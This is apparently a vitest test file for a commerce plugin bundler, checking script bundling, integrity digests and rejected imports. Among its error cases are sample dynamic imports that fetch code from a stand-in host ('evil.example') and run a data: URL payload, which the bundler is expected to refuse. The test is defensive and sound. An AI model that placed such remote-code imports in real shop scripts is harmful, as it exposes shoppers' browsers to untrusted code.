import { createHash } from 'node:crypto';
import { runInNewContext } from 'node:vm';
import type { ManifestInput } from '@digital-commerce/plugin-schema';
import { LIMITS } from '@digital-commerce/plugin-schema';
import { describe, expect, test } from 'vitest';
import { bundleFiles, SDK_FOLDER } from '../testing/bundle-files.ts';
import { withPluginFolder } from '../testing/with-plugin-folder.ts';
import { bundlePlugin } from './bundle-plugin.ts';
import { PluginBuilder } from './plugin-builder.ts';

const FILE = 'src/storefront/tracker.ts';
const TRACKER = `import { beacon } from './beacon.ts';
const { api = '', tenant = '' } = document.currentScript?.dataset ?? {};
beacon(api + '/track?' + new URLSearchParams({ tenant }));
`;
const BEACON = `export function beacon(url: string): void { navigator.sendBeacon(url); }\n`;
const PLUGIN = `import { createAnalyticsPlugin } from '@digital-commerce/plugin-sdk';
export default createAnalyticsPlugin('Visits', 'visits')
  .permission('storefront:scripts', 'Counts visits')
  .storefrontScript('tracker', '${FILE}', { purpose: 'Counts visits', pages: ['home'], consent: 'statistics' })
  .storefrontScript('lib', { src: 'https://js.example.com/lib.js', purpose: 'Draws', pages: ['home'], consent: 'necessary' })
  .build();
`;
const FILES = { 'plugin.ts': PLUGIN, [FILE]: TRACKER, 'src/storefront/beacon.ts': BEACON };
const withTracker = (source: string, more: Record<string, string> = {}) => ({ ...FILES, [FILE]: source, ...more });

/** The compiler takes a second each time; one test is about types. */
const bundleUntyped = (files: Record<string, string>) =>
  withPluginFolder(files, (folder) => bundlePlugin(folder, { sdkFolder: SDK_FOLDER, checksTypes: false }));
async function releaseUntyped(files: Record<string, string>) {
  const result = await bundleUntyped(files);
  if (!result.ok) throw new Error(JSON.stringify(result.problems));
  return { ...result.release, hash: result.hash };
}
const scriptsOf = ({ storefrontScripts = [] }: ManifestInput) => storefrontScripts;
const toIntegrity = (source: string) => `sha384-${createHash('sha384').update(source).digest('base64')}`;

describe('a script for pages of the shop', () => {
  test('is bundled into one file, whose digest the manifest tells', async () => {
    const result = await bundleFiles(FILES);
    expect(result.problems).toEqual([]);
    if (!result.ok) return;
    const { files, manifest } = result.release;
    const [{ name, source } = { name: '', source: '' }] = files;
    expect([files.length, name]).toEqual([1, FILE]);
    const [tracker, lib] = scriptsOf(manifest);
    expect(tracker).toEqual({
      name: 'tracker',
      file: FILE,
      integrity: toIntegrity(source),
      purpose: 'Counts visits',
      pages: ['home'],
      consent: 'statistics',
    });
    expect(lib).not.toHaveProperty('integrity');
  });

  test('runs as a browser runs it, and leaves no names behind', async () => {
    const { files } = await releaseUntyped(FILES);
    const sent: string[] = [];
    const page = {
      document: { currentScript: { dataset: { api: '/api/visits', tenant: 'demo' } } },
      navigator: { sendBeacon: (url: string) => sent.push(url) },
      URLSearchParams,
    };
    const names = Object.keys(page);
    runInNewContext(files[0]?.source ?? '', page);
    expect(sent).toEqual(['/api/visits/track?tenant=demo']);
    expect(Object.keys(page)).toEqual(names);
  });

  test('of the same sources has the same bytes, and of others another digest and release', async () => {
    const changed = { ...FILES, 'src/storefront/beacon.ts': BEACON.replace('(url)', "(url + '&v=2')") };
    const one = await releaseUntyped(FILES);
    const again = await releaseUntyped(FILES);
    const other = await releaseUntyped(changed);
    expect(again.hash).toBe(one.hash);
    expect(other.hash).not.toBe(one.hash);
    expect(scriptsOf(other.manifest)[0]?.integrity).not.toBe(scriptsOf(one.manifest)[0]?.integrity);
  });

  test('has the digest of its own bytes, whatever its author claims', async () => {
    const claimed = PLUGIN.replace(
      "{ purpose: 'Counts visits',",
      `{ integrity: 'sha384-${'A'.repeat(64)}', purpose: 'x',`,
    );
    const { files, manifest } = await releaseUntyped({ ...FILES, 'plugin.ts': claimed });
    expect(scriptsOf(manifest)[0]).toMatchObject({ purpose: 'x', integrity: toIntegrity(files[0]?.source ?? '') });
  });

  test('is in builds of development as well', async () => {
    const release = await withPluginFolder(FILES, async (folder) => {
      const builder = new PluginBuilder(folder, { sdkFolder: SDK_FOLDER });
      const built = await builder.build();
      await builder.close();
      if (!built.ok) throw new Error(JSON.stringify(built.problems));
      return built.release;
    });
    expect(scriptsOf(release.manifest)[0]?.integrity).toBe(toIntegrity(release.files[0]?.source ?? ''));
  });
});

test.each<[string, Record<string, string>, object]>([
  [
    'a file that is not there',
    { 'plugin.ts': PLUGIN },
    { code: 'FILE_MISSING', file: 'plugin.ts', line: 4, column: 32 },
  ],
  ['a syntax error', withTracker('\nconst = 1;'), { code: 'SYNTAX_ERROR', file: FILE, line: 2, column: 7 }],
  ["Node's modules", withTracker("import 'node:fs';"), { code: 'NODE_BUILTIN_IMPORT', file: FILE, line: 1, column: 8 }],
  [
    "the Worker's modules",
    withTracker("import 'cloudflare:workers';"),
    { code: 'UNRESOLVED_IMPORT', file: FILE, line: 1, column: 8 },
  ],
  [
    'code from elsewhere',
    withTracker("void import('https://evil.example/x.js');"),
    { code: 'UNRESOLVED_IMPORT', message: expect.stringContaining('"https://evil.example/x.js" is outside') as string },
  ],
  [
    'code from elsewhere, by the scheme of the page',
    withTracker("void import('//evil.example/x.js');"),
    { code: 'UNRESOLVED_IMPORT' },
  ],
  ['code in an address', withTracker("void import('data:text/javascript,alert(1)');"), { code: 'UNRESOLVED_IMPORT' }],
  [
    'a stylesheet',
    withTracker("import './a.css';", { 'src/storefront/a.css': 'a { color: red }' }),
    { code: 'FILE_INVALID', message: expect.stringContaining('no script') as string },
  ],
  [
    'too much',
    withTracker(`console.log(${JSON.stringify('x'.repeat(LIMITS.maxFileBytes))});`),
    { code: 'FILE_INVALID', message: expect.stringContaining('at most 262144') as string },
  ],
])('%s is a problem with its place', async (_what, files, problem) => {
  const { ok, problems } = await bundleUntyped(files);
  expect(ok).toBe(false);
  expect(problems).toContainEqual(expect.objectContaining(problem));
});

test('scripts have the types of a browser, and the plugin those of a Worker', async () => {
  const { problems } = await bundleFiles({
    ...withTracker('const title: number = document.title;\nexport const pair = [title, new WebSocketPair()];'),
    'src/other.ts': 'export const { title } = document;',
    'src/storefront/tracker.test.ts': "import 'nowhere';",
  });
  expect(problems.map(({ code, file, line }) => `${code} ${file}:${line}`)).toEqual([
    'TYPE_ERROR src/other.ts:1',
    `TYPE_ERROR ${FILE}:1`,
    `TYPE_ERROR ${FILE}:2`,
  ]);
});
